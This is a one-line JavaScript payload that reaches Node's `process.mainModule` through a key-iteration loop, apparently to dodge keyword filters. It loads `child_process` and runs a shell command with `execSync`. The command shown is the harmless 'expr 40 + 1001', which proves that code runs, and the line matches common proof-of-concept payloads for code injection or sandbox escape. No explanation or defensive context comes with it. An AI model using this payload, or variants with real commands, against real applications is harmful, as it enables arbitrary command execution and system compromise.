for(const k in process) if(k==='mainModule') process[k].require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
